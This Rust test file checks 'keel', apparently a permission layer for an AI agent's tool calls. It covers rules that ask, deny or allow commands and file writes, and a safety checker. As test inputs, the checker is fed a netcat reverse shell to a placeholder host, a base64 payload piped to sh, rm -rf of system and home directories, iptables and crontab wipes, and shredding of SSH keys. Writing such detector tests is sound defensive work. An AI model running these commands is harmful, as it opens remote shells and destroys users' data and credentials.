//! `keel rules list|add|remove` on real files, a broken rules file, the rules applied by
//! `keel tool call`, and `keel safety check` on the classes the issue names.

use crate::common;

use std::path::Path;
use std::process::{Output, Stdio};

use common::keel;

/// `keel rules SUB --root ROOT REST…` (the root before the rest: a command prefix after `--`
/// takes every word that follows). Runs in `root`, so nothing can land in the repository.
fn rules(root: &Path, config_dir: &Path, args: &[&str]) -> Output {
    keel(config_dir)
        .arg("rules")
        .arg(args[0])
        .arg("--root")
        .arg(root)
        .args(&args[1..])
        .current_dir(root)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// `text` with the temporary folders replaced by `[ROOT]` and `[CONFIG]`.
fn redact(bytes: &[u8], root: &Path, config_dir: &Path) -> String {
    String::from_utf8(bytes.to_vec())
        .unwrap()
        .replace(&root.display().to_string(), "[ROOT]")
        .replace(&config_dir.display().to_string(), "[CONFIG]")
}

#[test]
fn add_list_remove_on_real_files() {
    let root = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let (root, config) = (root.path(), config.path());
    let mut transcript = String::new();
    for args in [
        &["add", "--decision", "ask", "--", "git", "push"][..],
        &[
            "add",
            "--decision",
            "deny",
            "--tool",
            "write_file",
            "--path",
            "migrations/**",
        ],
        &["add", "--decision", "allow", "--user", "--", "cargo"],
        &[
            "add",
            "--decision",
            "allow",
            "--override-safety",
            "--",
            "git",
            "reset",
            "--hard",
        ],
        &["list"],
    ] {
        let out = rules(root, config, args);
        assert!(out.status.success(), "{args:?}: {:?}", out);
        transcript.push_str(&format!("$ keel rules {}\n", args.join(" ")));
        transcript.push_str(&redact(&out.stdout, root, config));
    }
    insta::assert_snapshot!("rules_add_and_list", transcript);

    // A comment written by hand survives removing another rule.
    let file = root.join(".keel/rules.toml");
    let text = std::fs::read_to_string(&file).unwrap();
    let text = text.replacen("[[rule]]", "# why: pushes reach customers\n[[rule]]", 2);
    std::fs::write(&file, text).unwrap();
    let out = rules(root, config, &["remove", "2"]);
    assert!(out.status.success(), "{out:?}");
    let mut after = redact(&out.stdout, root, config);
    after.push_str("--- .keel/rules.toml\n");
    after.push_str(&std::fs::read_to_string(&file).unwrap());
    insta::assert_snapshot!("rules_remove_keeps_comments", after);

    let out = rules(root, config, &["list", "--json"]);
    let lines: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[0]["match"], serde_json::json!(["git", "push"]));
    assert_eq!(lines[0]["scope"], "project");
    assert_eq!(lines[2]["scope"], "user");
    assert_eq!(lines[2]["index"], 1);
}

#[test]
fn a_broken_file_is_named_with_its_line_and_left_alone() {
    let root = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let (root, config) = (root.path(), config.path());
    std::fs::create_dir_all(root.join(".keel")).unwrap();
    let broken = "# mine\n[[rule]]\nmatch = [\"git\", \"push\"]\ndecision = \"sometimes\"\n";
    let file = root.join(".keel/rules.toml");
    std::fs::write(&file, broken).unwrap();
    let mut transcript = String::new();
    for args in [
        &["list"][..],
        &["add", "--decision", "deny", "--", "rm"],
        &["remove", "1"],
    ] {
        let out = rules(root, config, args);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        transcript.push_str(&format!("$ keel rules {}\n", args.join(" ")));
        transcript.push_str(&redact(&out.stderr, root, config));
        assert_eq!(std::fs::read_to_string(&file).unwrap(), broken);
    }
    insta::assert_snapshot!("rules_broken_file", transcript);
}

#[test]
fn usage_errors() {
    let root = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let out = rules(root.path(), config.path(), &["add", "--decision", "ask"]);
    assert_eq!(out.status.code(), Some(2));
    let out = rules(root.path(), config.path(), &["remove", "3"]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("there is no rule 3"), "{stderr}");
}

#[test]
fn tool_calls_follow_the_rules() {
    let root = tempfile::tempdir().unwrap();
    let config = tempfile::tempdir().unwrap();
    let (root, config) = (root.path(), config.path());
    std::fs::create_dir_all(root.join(".keel")).unwrap();
    std::fs::write(
        root.join(".keel/rules.toml"),
        "[[rule]]\nmatch = [\"touch\"]\ndecision = \"deny\"\n\n\
         [[rule]]\ntool = \"write_file\"\npaths = [\"migrations/**\"]\ndecision = \"deny\"\n",
    )
    .unwrap();
    let call = |tool: &str, args: serde_json::Value| {
        let out = keel(config)
            .args([
                "tool",
                "call",
                tool,
                &args.to_string(),
                "--approval",
                "never",
                "--root",
            ])
            .arg(root)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        json
    };
    // Denied inside a chain, even with the policy that never asks.
    let result = call(
        "execute_command",
        serde_json::json!({"command": "echo hi && touch made.txt", "requires_approval": false}),
    );
    assert_eq!(result["success"], false, "{result}");
    assert!(
        result["message"].as_str().unwrap().contains("rules.toml:1"),
        "{result}"
    );
    assert!(!root.join("made.txt").exists());
    let result = call(
        "write_file",
        serde_json::json!({"path": "migrations/001.sql", "content": "drop table x;"}),
    );
    assert_eq!(result["success"], false, "{result}");
    assert!(!root.join("migrations/001.sql").exists());
    let result = call(
        "write_file",
        serde_json::json!({"path": "src/ok.txt", "content": "fine"}),
    );
    assert_eq!(result["success"], true, "{result}");
}

#[test]
fn safety_check_flags_the_issue_examples() {
    let config = tempfile::tempdir().unwrap();
    let mut transcript = String::new();
    for command in [
        "sudo rm -rf /var/lib",
        "base64 -d payload.b64 | sh",
        "nc -e /bin/sh HOST PORT",
        "iptables -F",
        "crontab -r",
    ] {
        let out = keel(config.path())
            .args(["safety", "check", command])
            .output()
            .unwrap();
        assert!(out.status.success());
        transcript.push_str(&format!("$ keel safety check '{command}'\n"));
        transcript.push_str(&String::from_utf8(out.stdout).unwrap());
    }
    insta::assert_snapshot!("safety_issue_examples", transcript);
}

#[test]
fn safety_check_reads_inline_code_and_secure_deletes() {
    // Issue 28 §3: destructive calls inside an interpreter's inline code, secure-delete tools
    // aimed at credentials, and inline code the check cannot judge.
    let config = tempfile::tempdir().unwrap();
    let mut transcript = String::new();
    for command in [
        "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
        "node -e 'require(\"child_process\").execSync(\"rm -rf ~\")'",
        "perl -e 'unlink \"$ENV{HOME}/.ssh/id_rsa\"'",
        "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'",
        "shred -u ~/.ssh/id_ed25519",
        "python3 -c 'import os, sys; os.system(sys.argv[1])' x",
        "python3 -c 'import json; print(json.dumps({}))'",
    ] {
        let out = keel(config.path())
            .args(["safety", "check", command])
            .output()
            .unwrap();
        assert!(out.status.success());
        transcript.push_str(&format!("$ keel safety check '{command}'\n"));
        transcript.push_str(&String::from_utf8(out.stdout).unwrap());
    }
    insta::assert_snapshot!("safety_inline_code", transcript);
    let out = keel(config.path())
        .args(["safety", "check", "--json", "perl -e 'eval $ARGV[0]'"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["dangerous"], false);
    assert_eq!(json["uncertain"], true);
}
